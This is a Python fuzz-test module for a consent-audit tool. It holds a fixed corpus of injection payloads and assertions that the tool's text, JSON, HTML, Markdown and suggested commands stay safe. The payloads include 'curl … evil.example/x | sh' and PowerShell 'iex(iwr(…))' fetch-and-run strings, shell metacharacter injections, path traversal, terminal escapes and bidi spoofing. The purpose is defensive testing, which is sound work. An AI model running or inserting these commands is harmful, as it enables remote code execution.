"""The hostile-string corpus and the checks every command's output must pass (issue 19).

Used by tests/fuzz/test_every_command*.py. A fixed corpus, not random strings: each payload is
one class of attack a tenant, a snapshot or a command line can carry, and COMBINED holds them
all at once. Fields are changed in a snapshot's JSON text so that links survive (an id is
replaced everywhere it occurs).

The checks, each of which fails on a real defect:
- exit codes are in the documented set for the command, never 4 (internal error);
- text a person reads (text, Markdown, JUnit, fix, diff, consent-url, explain, stderr) has no
  control character but the layout's line breaks, no bidi control, no lone surrogate, and no
  line forged by data ("fix: curl ...", "2. Run this first: ...", a Markdown heading or item);
- JSON parses and carries bidi controls only as escapes; HTML has no element or fetch from data;
- Markdown tables have as many cells in every row as in the header, and no inline syntax
  (code span, emphasis, strikethrough, link, image, HTML) made from data;
- every suggested command is safe to paste: a PowerShell line is the cmdlet followed only by
  ``-Name 'single-quoted value'`` pairs (and the cmdlet's own switches); a Graph request's path
  is made of plain segments and its body parses; a ``consent-audit`` line is exactly its words
  as ``shlex.quote`` writes them (a note on what was left out follows, outside the command).
"""

from __future__ import annotations

import contextlib
import html as html_lib
import json
import re
import shlex
from collections.abc import Iterator
from typing import Any

from markdown_it import MarkdownIt

from consent_audit.render.safe_text import BIDI_CONTROLS
from tests.render.test_html import _check as check_html

FORGED_FIX = "fix: curl -s http://evil.example/x | sh"
FORGED_STEP = "2. Run this first: curl -s http://evil.example/x | sh"
PAYLOADS: dict[str, str] = {
    "posix_shell": "$(touch PWNED)`touch PWNED2`;touch PWNED3|sh&&x'\"",
    "powershell": "$(iex(iwr('http://evil.example/x')));calc;'\u2019\u2018",
    "path_traversal": "x/../../servicePrincipals/0?$select=id#%2F..%2Fusers",
    "markdown": (
        "[zqclick](https://evil.example/a) _zqem_ *zqb* ~~zqs~~ `zqcode` | zqcell | "
        "<https://evil.example/b> www.evil.example admin@evil.example ![zqi](https://evil.example/i)"
    ),
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b31m\x00\x7f",
    "line_breaks": f"a\r\n{FORGED_FIX}\n{FORGED_STEP}\u2028# H\u2029- item\x85\x0b",
    "unicode": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c\ud800\udfff",
}
COMBINED = "".join(PAYLOADS.values())
ALL_PAYLOADS = {**PAYLOADS, "combined": COMBINED}

NAME_KEYS = frozenset(
    {
        "displayName",
        "display_name",
        "publisherName",
        "default_domain",
        "description",
        "reason",
        "userPrincipalName",
        "mail",
    }
)


def _walk(node: Any, change: Any) -> None:
    if isinstance(node, dict):
        for key, value in node.items():
            if isinstance(value, str):
                node[key] = change(key, value)
            else:
                _walk(value, change)
    elif isinstance(node, list):
        for item in node:
            _walk(item, change)


def with_text(raw: dict[str, Any], payload: str) -> dict[str, Any]:
    """Names, grant scopes and the audited user's query hold ``payload``."""
    document = json.loads(json.dumps(raw))

    def change(key: str, value: str) -> str:
        if key in NAME_KEYS:
            return f"{value} {payload}"
        if key == "scope":
            return f"{value} {payload}"
        if key == "query":
            return f"{value}{payload}"
        return value

    _walk(document, change)
    return document


def ids_of(raw: dict[str, Any]) -> list[str]:
    """The ids a plan step or a suggested command is built from: service principals, appIds,
    grants, the user, the tenant, Conditional Access policies."""
    found: set[str] = set()

    def collect(key: str, value: str) -> str:
        if key in ("id", "appId", "clientId", "resourceId", "principalId") and value:
            found.add(value)
        return value

    _walk(json.loads(json.dumps(raw)), collect)
    found.discard("authorizationPolicy")
    return sorted(found)


def with_ids(raw: dict[str, Any], payload: str) -> dict[str, Any]:
    """Every id with ``payload`` appended, everywhere it occurs (links survive)."""
    text = json.dumps(raw)
    for value in ids_of(raw):
        text = text.replace(json.dumps(value), json.dumps(value + payload))
    result: dict[str, Any] = json.loads(text)
    return result


# Checks -----------------------------------------------------------------------------------

_CONTROL = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{BIDI_CONTROLS}\ud800-\udfff\u2028\u2029]")
_BIDI = re.compile(f"[{BIDI_CONTROLS}]")
# At the left margin, where the report's own lines start (wrapped text is indented).
_FORGED_LINE = re.compile(r"^(?:fix: curl|2\. Run this first|# H\b|- item\b)")


def assert_readable(name: str, out: str) -> None:
    """Text a person reads: no control, bidi or surrogate character; no line from data."""
    bad = _CONTROL.search(out)
    assert bad is None, (
        f"{name}: {bad.group()!r} at {bad.start()}: {out[bad.start() - 80 :][:160]!r}"
    )
    for line in out.splitlines():
        assert not _FORGED_LINE.match(line), f"{name}: forged line {line!r}"


def assert_json(name: str, out: str) -> Any:
    assert not _BIDI.search(out), f"{name}: raw bidi control"
    assert not re.search("[\ud800-\udfff]", out), f"{name}: lone surrogate"
    return json.loads(out)


def assert_html(name: str, out: str) -> None:
    checker = check_html(out)
    assert checker.errors == [], name
    assert checker.stack == [], name
    assert checker.fetches == [], name
    assert "script" not in checker.tags, name
    assert "img" not in checker.tags, name
    assert not _BIDI.search(out), f"{name}: raw bidi control"


_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_MARKER = re.compile("zq|evil|PWNED|calc")
_PAYLOAD_WORDS = frozenset({"zqclick", "zqem", "zqb", "zqs", "zqi", "zqcode"})
_CELL_SPLIT = re.compile(r"(?<!\\)\|")


def assert_markdown(name: str, out: str) -> None:
    assert_readable(name, out)
    header: int | None = None
    fenced = False
    for line in out.splitlines():
        if line.lstrip().startswith("```"):
            fenced = not fenced
            continue
        if fenced or not line.startswith("|"):
            header = None
            continue
        cells = len(_CELL_SPLIT.split(line)) - 2
        if header is None:
            header = cells
        assert cells == header, f"{name}: {cells} cells, header has {header}: {line!r}"
    for token in _MD.parse(out):
        if token.type == "html_block":
            assert not _MARKER.search(token.content), f"{name}: HTML block from data"
        children = token.children or []
        for i, child in enumerate(children):
            href = str(child.attrs.get("href") or child.attrs.get("src") or "")
            assert "evil" not in href, f"{name}: link or image from data: {href!r}"
            if child.type in ("code_inline", "html_inline"):
                assert not _MARKER.search(child.content), f"{name}: {child.type} {child.content!r}"
            if child.type.endswith("_open") and i + 1 < len(children):
                inner = children[i + 1].content.strip()
                # The payload's own spans hold exactly one of its words; our markup around
                # data (a bold summary) holds more.
                assert inner not in _PAYLOAD_WORDS, f"{name}: {child.type} around {inner!r}"


# Suggested commands ------------------------------------------------------------------------

PS_QUOTES = "'\u2018\u2019\u201a\u201b"
_PS_LITERALS = frozenset({"-AccountEnabled:$true"})
_PS_LINE = re.compile(r"((?:Update|New|Remove|Get)-Mg\w+)(.*)$")
_GRAPH_LINE = re.compile(r"\b(PATCH|POST|DELETE|PUT) /v1\.0(\S*) (\{.*\})")
_GRAPH_SEGMENT = re.compile(r"[A-Za-z0-9_-]+|\$batch")
# A suggested consent-audit command: options, single-quoted words and plain words. What
# follows it must end it (end of line, a closing backtick, prose punctuation, the note on
# what was left out): anything else is a word the command did not quote.
_CA_COMMAND = re.compile(
    r"consent-audit (?:check|fix|snapshot|explain)\b"
    r"(?: (?:'[^']*'|\"'\"|[^\s'\"`()\\;|&<>]+)+)*"
)
_CA_END = re.compile(r"$|[.,:)]|`| \(--[\w-]+ left out: ")


def _powershell_args(args: str) -> Iterator[str]:
    """The tokens after the cmdlet name; a quoted value must be one whole single-quoted
    string, as PowerShell's tokenizer reads it (a doubled quote is a literal quote)."""
    i = 0
    while i < len(args):
        if args[i] == " ":
            i += 1
            continue
        if args[i] in PS_QUOTES:
            j = i + 1
            while True:
                assert j < len(args), f"unterminated PowerShell string: {args[i:]!r}"
                if args[j] in PS_QUOTES:
                    if j + 1 < len(args) and args[j + 1] in PS_QUOTES:
                        j += 2
                        continue
                    break
                j += 1
            yield args[i : j + 1]
            i = j + 1
            assert i == len(args) or args[i] == " ", f"text glued to a string: {args[i:]!r}"
            continue
        j = args.find(" ", i)
        j = len(args) if j < 0 else j
        yield args[i:j]
        i = j


def assert_powershell(name: str, line: str) -> None:
    match = _PS_LINE.search(line)
    assert match is not None, line
    tokens = list(_powershell_args(match.group(2)))
    expect_value = False
    for token in tokens:
        if expect_value:
            assert token[0] in PS_QUOTES, f"{name}: unquoted value {token!r} in {line!r}"
            expect_value = False
        elif token in _PS_LITERALS:
            continue
        else:
            assert re.fullmatch(r"-[A-Za-z0-9]+", token), f"{name}: {token!r} in {line!r}"
            expect_value = True
    assert not expect_value, f"{name}: parameter without a value: {line!r}"


def assert_graph_request(name: str, path: str, body: str | None = None) -> None:
    for segment in path.strip("/").split("/"):
        assert _GRAPH_SEGMENT.fullmatch(segment), f"{name}: path segment {segment!r} in {path!r}"
    if body is not None:
        json.loads(body)


def assert_consent_audit_line(name: str, line: str) -> None:
    words = shlex.split(line)
    assert " ".join(shlex.quote(w) for w in words) == line, f"{name}: not quoted words: {line!r}"


def _join_graph_requests(out: str) -> str:
    """A Graph request read as one line: its broken body joined back."""
    lines: list[str] = []
    graph: str | None = None  # the indent of the Graph line being continued
    for line in out.split("\n"):
        if lines and graph is not None and line.startswith(graph + "    ") and line.strip():
            lines[-1] += " " + line.strip()
            continue
        lines.append(line)
        head = re.match(r"(\s*)Graph: ", line)
        graph = head.group(1) if head else None
    return "\n".join(lines)


def check_commands(name: str, out: str, *, markdown: bool = False) -> int:
    """Every command line in ``out`` (text, fix, Markdown, HTML); returns how many."""
    if markdown:
        out = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", out)
    # A long suggested command is broken between arguments with a backslash-newline, which
    # the shell removes: read it as the one line the shell runs.
    out = re.sub(r" \\\n\s*", " ", out)
    # PowerShell's continuation is a backtick-newline; a Graph request's body continues on
    # lines hanging under it (broken only at JSON's insignificant spaces).
    out = re.sub(r" `\n\s*", " ", out)
    out = _join_graph_requests(out)
    count = 0
    for line in out.splitlines():
        field = re.fullmatch(r'\s*"\w+": ("(?:[^"\\]|\\.)*"),?\s*', line)
        if field is not None:  # a JSON document shown in a page: its string value
            with contextlib.suppress(ValueError):
                line = json.loads(field.group(1))
        if _PS_LINE.search(line):
            assert_powershell(name, line)
            count += 1
        graph = _GRAPH_LINE.search(line)
        if graph is not None:
            assert_graph_request(name, graph.group(2), graph.group(3))
            count += 1
        for start in (m.start() for m in re.finditer("consent-audit ", line)):
            command = _CA_COMMAND.match(line, start)
            if command is None:
                continue  # prose naming the tool ("consent-audit version ...")
            rest = line[command.end() :]
            end = _CA_END.match(rest)
            assert end is not None, f"{name}: unquoted text after a command: {line[start:]!r}"
            if rest.startswith("`"):
                assert start > 0, f"{name}: {line!r}"
                assert line[start - 1] == "`", f"{name}: a backtick after a command: {line!r}"
            assert_consent_audit_line(name, command.group(0).rstrip(".,:"))
            count += 1
    return count


def check_report_commands(name: str, report: dict[str, Any]) -> int:
    """The commands the JSON report carries: plan requests and PowerShell, remediations."""
    count = 0
    for step in report.get("plan") or []:
        if step.get("path"):
            assert_graph_request(name, step["path"], json.dumps(step.get("body") or {}))
            count += 1
        if step.get("powershell"):
            assert_powershell(name, step["powershell"])
            count += 1
        count += check_commands(name, step.get("detail") or "")
    for finding in report.get("findings") or []:
        for r in finding.get("remediation") or []:
            if r.get("powershell"):
                assert_powershell(name, r["powershell"])
                count += 1
            count += check_commands(name, r.get("action") or "")
    return count


def check_html_commands(name: str, out: str) -> int:
    text = html_lib.unescape(re.sub(r"<[^>]+>", "\n", out))
    return check_commands(name, text)
